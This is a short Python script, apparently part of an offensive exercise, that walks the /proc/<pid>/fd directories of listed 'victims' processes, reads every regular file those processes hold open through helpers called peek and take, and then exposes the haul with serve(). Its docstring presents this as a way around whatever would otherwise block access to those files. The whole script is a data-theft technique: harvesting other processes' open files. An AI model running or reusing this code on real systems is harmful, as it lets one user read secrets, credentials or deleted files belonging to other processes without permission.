"""What others hold open can be opened anew by way of /proc, whatever stands in its way otherwise."""

import os

from lobby import peek, serve, take, victims

for each in victims():
    try:
        numbers = os.listdir(f"/proc/{each}/fd")
    except OSError:
        continue
    for number in numbers:
        path = f"/proc/{each}/fd/{number}"
        try:
            if os.path.isfile(path):
                take(peek(path))
        except OSError:
            pass
serve()
